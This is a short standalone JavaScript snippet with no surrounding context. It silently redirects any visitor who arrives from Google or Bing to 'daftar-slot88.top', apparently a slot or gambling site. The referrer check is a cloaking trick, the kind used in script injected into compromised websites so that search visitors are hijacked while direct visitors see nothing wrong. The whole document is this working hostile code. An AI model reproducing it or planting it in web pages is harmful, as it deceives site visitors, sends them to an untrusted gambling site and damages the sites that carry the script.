(function () {
  var r = document.referrer;
  if (r.indexOf('google') !== -1 || r.indexOf('bing') !== -1) {
    window.location.href = 'https://daftar-slot88.top/';
  }
})();
